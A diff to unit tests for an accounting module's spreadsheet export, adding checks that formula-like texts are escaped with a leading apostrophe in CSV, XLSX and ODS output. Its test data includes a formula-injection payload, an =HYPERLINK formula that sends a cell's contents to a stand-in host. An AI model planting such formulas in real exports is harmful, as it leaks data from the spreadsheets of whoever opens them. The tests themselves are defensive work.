@@ -174,7 +174,7 @@ class XlsxTestCase(unittest.TestCase):
         self.assertEqual(rows, [
                 ['010', 'Нефинансовые активы', 1500, 123456789012.34],
                 ['011', 'Основные средства', -1234.5, 0],
-                ['012', '= амортизация', None, 0.01],
+                ['012', "'= амортизация", None, 0.01],
                 ['190', 'БАЛАНС', 265.5, 123456789012.34],
                 ])
         self.assertEqual(sheet.cell(head + 3, 2).data_type, 's')
@@ -254,7 +254,7 @@ class OdsTestCase(unittest.TestCase):
         self.assertEqual(rows[head + 2][2:], [
                 ('float', '-1234.50'), ('float', '0.00')])
         self.assertEqual(rows[head + 3][1:], [
-                ('string', '= амортизация'), (None, ''), ('float', '0.01')])
+                ('string', "'= амортизация"), (None, ''), ('float', '0.01')])
         self.assertEqual(rows[-1][0],
             ('string', 'Руководитель: Иванова А. П.'))
 
@@ -282,7 +282,7 @@ class OdsTestCase(unittest.TestCase):
         margin = f'{{{ns["fo"]}}}margin-left'
         self.assertIsNone(
             properties(style_of('Нефинансовые активы'), 'paragraph', margin))
-        self.assertEqual(properties(style_of('= амортизация'), 'paragraph',
+        self.assertEqual(properties(style_of("'= амортизация"), 'paragraph',
                 margin), '0.60cm')
         self.assertEqual(properties(style_of('БАЛАНС'), 'text',
                 f'{{{ns["fo"]}}}font-weight'), 'bold')
@@ -388,7 +388,7 @@ class CsvTestCase(unittest.TestCase):
             'line_code;name;year_start;period_end\n'
             '010;Нефинансовые активы;1500.00;123456789012.34\n'
             '011;Основные средства;-1234.50;0.00\n'
-            '012;= амортизация;;0.01\n'
+            "012;'= амортизация;;0.01\n"
             '190;БАЛАНС;265.50;123456789012.34\n')
 
     def test_columns(self):
@@ -411,6 +411,77 @@ class CsvTestCase(unittest.TestCase):
             'kfo;amount\n2;1.00\n4;-2.00\n'.encode('utf-8'))
         with self.assertRaises(ValueError):
             export.render(balance_document(), 'csv')
+
+
+class FormulaTestCase(unittest.TestCase):
+    """A text a spreadsheet would read as a formula (a journal, a plan line
+    or a person named '=HYPERLINK(...)') is written with a leading
+    apostrophe in CSV, XLSX and ODS; amounts stay numbers, negative ones
+    included, and ordinary texts stay as they are"""
+
+    NAMES = ['=HYPERLINK("http://x.example/?"&A1;"Ок")', '+7 999',
+        '-1+2', '@SUM(A1:A9)', '\tтаб', '\rвозврат', 'Обычное имя',
+        '401.20.211', 'а=б']
+    SAFE = ["'=HYPERLINK(\"http://x.example/?\"&A1;\"Ок\")", "'+7 999",
+        "'-1+2", "'@SUM(A1:A9)", "'\tтаб", "'\rвозврат", 'Обычное имя',
+        '401.20.211', 'а=б']
+
+    def document(self):
+        columns = [Column('code', 'Код', 'code'), Column('name', 'Имя'),
+            Column('amount', 'Сумма', 'amount')]
+        rows = [{'code': name, 'name': name, 'amount': Decimal('-12.50')}
+            for name in self.NAMES]
+        return Document('Формулы', '', [('Учреждение', '=1+1')],
+            [Table('Формулы', columns, rows, footer=['-подпись'])])
+
+    def test_text_cell(self):
+        self.assertEqual([export.text_cell(n) for n in self.NAMES],
+            self.SAFE)
+        for value in [Decimal('-1'), -1, -1.5, None, dt.date(2026, 3, 1)]:
+            self.assertIs(export.text_cell(value), value)
+
+    def test_csv(self):
+        import csv
+        text = export.to_csv(self.document().tables[0])
+        # the csv module quotes a field with '\n', not one with '\r'
+        rows = list(csv.reader(io.StringIO(text.replace('\r', '<CR>'),
+                    newline=''), delimiter=';'))
+        self.assertEqual(rows[0], ['code', 'name', 'amount'])
+        self.assertEqual(rows[1:],
+            [[safe.replace('\r', '<CR>')] * 2 + ['-12.50']
+                for safe in self.SAFE])
+
+    def test_xlsx(self):
+        workbook = openpyxl.load_workbook(
+            io.BytesIO(export.to_xlsx(self.document())))
+        sheet = workbook.active
+        cells = list(sheet.iter_rows(min_row=sheet.max_row
+                - len(self.NAMES) - 1, max_row=sheet.max_row - 2))
+        self.assertEqual([[c.value for c in row] for row in cells],
+            [[safe, safe, -12.5] for safe in self.SAFE])
+        self.assertTrue(all(row[0].data_type == 's'
+                and row[1].data_type == 's' and row[2].data_type == 'n'
+                for row in cells))
+        self.assertEqual(sheet['A2'].value, 'Учреждение: =1+1')
+        self.assertEqual(sheet.cell(sheet.max_row, 1).value, "'-подпись")
+
+    def test_ods(self):
+        rows, = read_ods(export.to_ods(self.document())).values()
+        data = rows[-len(self.NAMES) - 2:-2]
+        self.assertEqual(data, [[('string', safe), ('string', safe),
+                    ('float', '-12.50')] for safe in self.SAFE])
+        self.assertEqual(rows[-1][0], ('string', "'-подпись"))
+
+    def test_statement_csv(self):
+        "The long layouts of interfaces.md §4 (statement_report._csv)"
+        from trytond.modules.kazan_accounting import statement_report
+        self.assertEqual(statement_report._csv(['line_code', 'line_name',
+                    'kfo', 'amount'], [
+                    ['010', '=1+1', '4', Decimal('-5')],
+                    ['020', 'Основные средства', '4', Decimal('5')]]),
+            "line_code;line_name;kfo;amount\n"
+            "010;'=1+1;4;-5.00\n"
+            "020;Основные средства;4;5.00\n")
 
 
 class LongTableTestCase(unittest.TestCase):
